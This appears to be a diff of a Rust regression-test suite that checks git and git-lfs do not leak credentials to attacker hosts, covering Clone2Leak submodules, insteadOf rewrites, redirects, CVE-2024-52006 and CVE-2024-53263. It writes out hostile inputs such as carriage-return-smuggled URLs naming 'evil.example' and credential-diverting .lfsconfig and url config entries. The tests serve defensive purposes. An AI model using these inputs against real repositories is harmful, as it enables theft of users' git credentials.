@@ -3,18 +3,33 @@
 
 use std::fs;
 
-use super::scene::{assert_saw_no_token, cached, careless_scene, clone_app};
+use crate::scene::*;
 use crate::town::http::{Answer, Exchange};
 use crate::town::server::Server;
 use crate::town::{Git, Ran, Town};
-use crate::transcript::REPOSITORY;
+
+/// With a clone in `app`, and an attacker's town.
+fn attacked(git: &Git) -> (Scene, Town) {
+    let scene = Scene::careless(git);
+    scene.clone_into("app");
+    (scene, Town::start())
+}
+
+/// That the attacker's host was asked, and was shown no credential.
+#[track_caller]
+fn assert_saw_no_token(attacker: &Town) {
+    let requests = attacker.github.requests();
+    assert!(!requests.is_empty(), "nobody came: the test proves nothing");
+    for request in requests {
+        assert_eq!((&request.token, request.status), (&None, 401), "{request:?}");
+    }
+}
 
 /// A repository with a submodule on another host, cloned recursively.
 #[test]
 fn clone2leak_a_submodule_on_another_host() {
     for git in Git::all() {
-        let (scene, attacker) = (careless_scene(&git), Town::start());
-        clone_app(&scene);
+        let (scene, attacker) = attacked(&git);
         let url = attacker.github.url("acme/app");
         let modules = format!("[submodule \"sub\"]\n\tpath = sub\n\turl = {url}\n");
         scene.home.commit("app", ".gitmodules", modules.as_bytes());
@@ -23,15 +38,10 @@ fn clone2leak_a_submodule_on_another_host() {
         scene.home.git_in("app", &["update-index", "--add", "--cacheinfo", &entry]).assert_ok();
         scene.home.git_in("app", &["commit", "--quiet", "--message", "submodule"]).assert_ok();
         scene.home.git_in("app", &["push", "--quiet", "origin", "HEAD"]).assert_ok();
-        let ran = scene.home.git(&[
-            "clone",
-            "--quiet",
-            "--recursive",
-            &scene.town.github.url(REPOSITORY),
-            "again",
-        ]);
+        let url = scene.github.url(REPOSITORY);
+        let ran = scene.home.git(&["clone", "--quiet", "--recursive", &url, "again"]);
         ran.assert_fails();
-        assert!(!ran.stderr.contains(&cached(&scene)), "{ran:?}");
+        assert!(!ran.stderr.contains(&scene.current()), "{ran:?}");
         assert!(scene.home.path().join("again/.gitmodules").exists(), "the rest came\n{ran:?}");
         assert_saw_no_token(&attacker);
     }
@@ -42,11 +52,10 @@ fn clone2leak_a_submodule_on_another_host() {
 fn paperclip_10720_instead_of_rewrites_our_host() {
     for git in Git::all() {
         for key in ["insteadOf", "pushInsteadOf"] {
-            let (scene, attacker) = (careless_scene(&git), Town::start());
-            clone_app(&scene);
+            let (scene, attacker) = attacked(&git);
             scene.home.commit("app", "file", b"content");
             let evil = format!("url.http://{}/.{key}", attacker.github.host());
-            let ours = format!("http://{}/", scene.town.github.host());
+            let ours = format!("http://{}/", scene.github.host());
             scene.home.git_in("app", &["config", &evil, &ours]).assert_ok();
             scene.home.git_in("app", &["push", "origin", "HEAD"]).assert_fails();
             assert_saw_no_token(&attacker);
@@ -58,7 +67,7 @@ fn paperclip_10720_instead_of_rewrites_our_host() {
 #[test]
 fn a_git_host_that_redirects_to_another() {
     for git in Git::all() {
-        let (mut scene, attacker) = (careless_scene(&git), Town::start());
+        let (mut scene, attacker) = (Scene::careless(&git), Town::start());
         let url = format!("http://{}", attacker.github.host());
         let redirector = Server::start(0, move |stream| {
             let Ok(exchange) = Exchange::read_head(stream) else { return };
@@ -76,9 +85,9 @@ fn a_git_host_that_redirects_to_another() {
 #[test]
 fn cve_2024_52006_a_git_that_lets_carriage_returns_through() {
     for git in Git::all() {
-        let scene = careless_scene(&git);
+        let scene = Scene::careless(&git);
         for url in ["http://HOST%0d.evil.example/", "http://evil.example%0dhost=HOST/"] {
-            let url = url.replace("HOST", &scene.town.github.host());
+            let url = url.replace("HOST", &scene.github.host());
             let mut command = scene.home.command("git");
             command.args(["-c", "credential.protectProtocol=false", "credential", "fill"]);
             let ran = Ran::run(command, format!("url={url}\n\n").as_bytes());
@@ -88,22 +97,21 @@ fn cve_2024_52006_a_git_that_lets_carriage_returns_through() {
         // The same way in works for who asks honestly.
         let mut command = scene.home.command("git");
         command.args(["credential", "fill"]);
-        let honest = format!("url=http://{}/\n\n", scene.town.github.host());
+        let honest = format!("url=http://{}/\n\n", scene.github.host());
         let ran = Ran::run(command, honest.as_bytes());
-        assert!(ran.assert_ok().stdout.contains(&cached(&scene)), "{ran:?}");
+        assert!(ran.assert_ok().stdout.contains(&scene.current()), "{ran:?}");
     }
 }
 
 /// `.lfsconfig` comes with the repository and says where git-lfs asks.
 #[test]
 fn cve_2024_53263_a_hostile_lfsconfig_and_a_real_git_lfs() {
-    let (scene, attacker) = (careless_scene(&Git::newest()), Town::start());
+    let (scene, attacker) = attacked(&Git::newest());
     if scene.home.git(&["lfs", "version"]).code != 0 {
         return crate::town::skip("there is no git-lfs");
     }
-    clone_app(&scene);
     let evil = attacker.github.host();
-    let ours = scene.town.github.host();
+    let ours = scene.github.host();
     for url in [
         format!("http://{evil}/acme/app.git/info/lfs"),
         format!("http://github.com@{evil}/acme/app.git/info/lfs"),
@@ -115,7 +123,7 @@ fn cve_2024_53263_a_hostile_lfsconfig_and_a_real_git_lfs() {
         fs::write(scene.home.path().join("app/.lfsconfig"), config).expect("the clone is ours");
         let ran = scene.home.git_in("app", &["lfs", "locks"]);
         ran.assert_fails();
-        assert!(!format!("{ran:?}").contains(&cached(&scene)), "{ran:?}");
+        assert!(!format!("{ran:?}").contains(&scene.current()), "{ran:?}");
     }
     assert_saw_no_token(&attacker);
 }
